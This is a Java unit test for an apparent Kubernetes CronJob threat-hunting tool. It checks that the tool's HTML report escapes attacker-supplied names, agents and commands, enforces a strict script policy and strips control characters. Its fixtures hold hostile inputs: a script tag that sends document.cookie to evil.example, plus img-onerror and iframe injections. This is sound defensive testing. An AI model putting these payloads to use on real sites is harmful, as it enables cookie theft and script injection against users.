package dev.cronsentinel.hunt;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.model.Alert;
import dev.cronsentinel.model.ChainLink;
import dev.cronsentinel.model.DeadLetter;
import dev.cronsentinel.model.Signal;
import dev.cronsentinel.testing.SampleAlerts;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * report.html is built from attacker text: a CronJob name, a user agent or a command holding markup must show as
 * text, never become markup, and the page's only script is its own static one.
 */
class HuntReportTest {
    private static final String NAME = "<script>fetch('https://evil.example/'+document.cookie)</script>";
    private static final String VALUE = "\"><img src=x onerror=alert(1)>";

    private static Alert hostile() {
        Alert e = SampleAlerts.escalation(1);
        return new Alert(e.alertId(), e.kind(), e.profile(), e.ruleVersion(), e.eventTime(), e.timestamp(), e.auditId(),
                "mallory<b>", e.groups(), "curl/8 <iframe src=//evil>", e.sourceIp(), "ns'\"", e.resource(), NAME, e.verb(),
                e.responseCode(), List.of(new Signal("shell-command", "reverse-shell", 60, "spec.containers[0].command", VALUE)),
                e.score(), e.severity(), e.techniqueId(), e.tactics(), e.images(), e.count(), e.firstSeen(), e.lastSeen(),
                List.of(new ChainLink("jobs", NAME + "-1", "u1", e.firstSeen() + 1000),
                        new ChainLink("pods", NAME + "-1-x", "u2", e.firstSeen() + 2000)),
                e.timeToFirstSpawnMillis(), null);
    }

    private static String page(List<Alert> alerts) {
        HuntProgress.Snapshot read = new HuntProgress.Snapshot(10, 10, 1, 1, 2, alerts.size(), 1000);
        List<DeadLetter> dead = List.of();
        return HuntReport.html(new HuntMain.Result(alerts, dead, HuntSummary.of(alerts, dead, read, null, null)));
    }

    @Test
    void attackerMarkupInACronJobNameIsEscaped() {
        String html = page(List.of(hostile(), SampleAlerts.workload(2)));

        assertThat(html).doesNotContain("<script>fetch").doesNotContain("<img").doesNotContain("<iframe")
                .doesNotContain("mallory<b>").doesNotContain("ns'\"");
        assertThat(html).contains("&lt;script&gt;fetch(&#39;https://evil.example/&#39;+document.cookie)&lt;/script&gt;")
                .contains("&quot;&gt;&lt;img src=x onerror=alert(1)&gt;");
        // The page's own script is the only one, and the CSP allows exactly it (by hash) and no fetch at all.
        assertThat(Pattern.compile("<script").matcher(html).results().count()).isEqualTo(1);
        Matcher csp = Pattern.compile("script-src '(sha256-[^']+)'").matcher(html);
        assertThat(csp.find()).isTrue();
        assertThat(html).contains("default-src 'none'").doesNotContain("http-equiv=\"refresh\"");
    }

    @Test
    void theChainTimelineListsTheRootThenItsSpawnsInTimeOrder() {
        String html = page(List.of(SampleAlerts.escalation(3)));
        int root = html.indexOf("create cronjobs/cj-3 by <b>mallory</b>");
        int job = html.indexOf("Job cj-3-29000000 spawned");
        int pod = html.indexOf("Pod cj-3-29000000-abcde spawned");
        assertThat(root).isPositive();
        assertThat(job).isGreaterThan(root);
        assertThat(pod).isGreaterThan(job);
    }

    @Test
    void controlCharactersCannotHideText() {
        assertThat(HuntReport.html("a\u001b[2Jb\rc")).isEqualTo("a\uFFFD[2Jb\uFFFDc");
        assertThat(HuntSummary.terminalSafe("a\u001b[2Jb")).isEqualTo("a\\u001b[2Jb");
    }
}
